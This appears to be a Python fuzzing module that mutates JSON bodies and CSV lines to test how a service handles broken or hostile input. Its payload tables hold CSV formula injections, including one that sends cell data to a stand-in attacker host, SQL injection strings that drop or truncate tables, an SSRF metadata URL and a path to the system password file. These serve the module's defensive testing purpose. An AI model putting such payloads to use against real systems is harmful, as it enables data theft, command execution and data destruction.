"""Mutations of valid bodies: what a broken, careless or hostile sender makes of them.

Everything is drawn from one `random.Random`, so that a seed gives the same bytes again. What is
done with them, and what must hold, is not known here.
"""

import gzip
import json
from collections.abc import Callable, Sequence
from random import Random
from typing import Any

FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
)
STATEMENTS = (
    "'; drop table enrichment.inbox; --",
    "x' or '1'='1",
    "\\'; select pg_sleep(10); --",
    "$$; truncate enrichment.ledger_entries; $$",
    "%s %(x)s :x {0}",
)
INVISIBLE = (
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u200b\u200d\ufeff",
    "a\u0000b",
    "\u0000",
    "\x1b[31m\x07",
    "e\u0301" * 30,
    "\U000e0041\U000e0042",
)
TEXTS = (
    *FORMULAS,
    *STATEMENTS,
    *INVISIBLE,
    "",
    " ",
    "n/a",
    "null",
    "x" * 600,
    "a@b",
    "a" * 65 + "@copperfox.com",
    "jane@xn--nxasmq6b.com",
    "***@copperfox.com",
    "email_not_unlocked@domain.com",
    "+33612345678",
    "+0",
    "tel:+1;ext=99999999999999",
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "https://www.linkedin.com/in/../../x",
    "k1",
    "k2",
    "verified",
    "invalid",
    "failed",
    "finished",
    "success",
    "pending",
    "2026-09-01T10:00:00Z",
    "9999-12-31T23:59:59+14:00",
    "0000-00-00",
    "0001-01-01T00:00:00+14:00",
    "-1",
    "1e999",
    "0.0000005",
)
NUMBERS: tuple[Any, ...] = (
    -1,
    -0.5,
    0,
    1,
    2,
    0.5,
    1e308,
    -1e308,
    10**30,
    -(10**30),
    2**63,
    999_999.999_999,
    float("nan"),
    float("inf"),
    float("-inf"),
)
OTHERS = ("null", "true", "false", "[]", "{}", "[null]", "[[]]", '{"a":null}', '["k1"]', '{"k1":1}')
"""As JSON: lists and mappings are changed in place, so that each use needs its own."""
BREAKING = (b'"', b"\\", b"{", b"}", b"[", b"]", b",", b":", b"\x00", b"\xff\xfe", b"\\ud800", b"-")


def text(random: Random) -> str:
    """A text that somebody could mean harm with."""
    if random.random() < 0.02:
        return random.choice("xé=\u202e\x00") * random.randrange(1_000, 20_000)
    return random.choice(TEXTS)


def leaf(random: Random) -> Any:
    """A value of any kind."""
    kind = random.randrange(10)
    if kind < 5:
        return text(random)
    return random.choice(NUMBERS) if kind < 8 else json.loads(random.choice(OTHERS))


def document(random: Random, value: Any, depth: int = 0) -> Any:
    """A JSON value with one place changed; `value` itself may be changed and reused."""
    if depth > 12 or not isinstance(value, dict | list) or not value or random.random() < 0.06:
        return _replaced(random, value)
    if isinstance(value, dict):
        name = random.choice(list(value))
        fate = random.random()
        if fate < 0.08:
            del value[name]
        elif fate < 0.14:
            value[random.choice((name.upper(), f"{name}s", text(random)[:50]))] = value.pop(name)
        elif fate < 0.18:
            other = random.choice(list(value))
            value[name], value[other] = value[other], value[name]
        else:
            value[name] = document(random, value[name], depth + 1)
        return value
    at = random.randrange(len(value))
    fate = random.random()
    if fate < 0.08:
        del value[at]
    elif fate < 0.16:
        value.append(value[at])
    elif fate < 0.20:
        random.shuffle(value)
    elif fate < 0.23:
        value.insert(at, leaf(random))
    else:
        value[at] = document(random, value[at], depth + 1)
    return value


def _replaced(random: Random, value: Any) -> Any:
    fate = random.random()
    if fate < 0.05:
        return [value]
    if fate < 0.07:
        return {"value": value}
    if fate < 0.10 and isinstance(value, str):
        return value + text(random)
    if fate < 0.12:
        nested: Any = value
        for _ in range(random.choice((3, 49, 60, 400))):
            nested = [nested]
        return nested
    if fate < 0.16 and isinstance(value, int):
        return str(value)
    return leaf(random)


def raw(random: Random, body: bytes) -> bytes:
    """Bytes with one thing done to them that no serializer would do."""
    if not body:
        return random.choice(BREAKING)
    at = random.randrange(len(body))
    match random.randrange(9):
        case 0:
            return body[:at]
        case 1:
            return body[:at] + bytes([body[at] ^ (1 << random.randrange(8))]) + body[at + 1 :]
        case 2:
            return body[:at] + random.choice(BREAKING) + body[at:]
        case 3:
            return body[:at] + random.choice(BREAKING) + body[at + 1 :]
        case 4:
            end = random.randrange(at, len(body)) + 1
            return body[:end] + body[at:end] + body[end:]
        case 5:
            end = random.randrange(at, len(body)) + 1
            return body[:at] + body[end:]
        case 6:
            return body.decode("utf-8", "replace").encode(random.choice(("utf-16", "utf-8-sig")))
        case 7:
            return gzip.compress(body, 1)
        case _:
            return body + body if random.random() < 0.5 else body + random.choice(BREAKING)


def body(random: Random, valid: str) -> bytes:
    """A valid JSON text after one to four mutations, a fifth of them of its bytes."""
    value = json.loads(valid)
    for _ in range(random.choice((1, 1, 1, 2, 2, 3, 4))):
        value = document(random, value)
    encoded = json.dumps(value, ensure_ascii=random.random() < 0.8).encode("utf-8", "surrogatepass")
    return raw(random, encoded) if random.random() < 0.2 else encoded


def line(random: Random, cells: Sequence[str]) -> bytes:
    """One line of a CSV file, line end included, after a few mutations."""
    mutated = list(cells)
    for _ in range(random.choice((1, 1, 2, 3))):
        at = random.randrange(len(mutated))
        fate = random.random()
        if fate < 0.05:
            del mutated[at]
            mutated = mutated or [""]
        elif fate < 0.10:
            mutated.insert(at, text(random))
        elif fate < 0.20:
            other = random.randrange(len(mutated))
            mutated[at], mutated[other] = mutated[other], mutated[at]
        elif fate < 0.35:
            mutated[at] += text(random)
        else:
            mutated[at] = text(random)
    quoting: Callable[[str], str] = random.choice((_quoted, _quoted, _quoted, str))
    written = ",".join(map(quoting, mutated)).encode(
        random.choice(("utf-8", "utf-8", "utf-8", "utf-16-le", "cp1252", "latin-1")), "replace"
    )
    if random.random() < 0.1:
        written = raw(random, written)
    return written + random.choice((b"\n", b"\n", b"\n", b"\r\n", b"\r"))


def _quoted(cell: str) -> str:
    escaped = cell.replace('"', '""')
    return f'"{escaped}"'
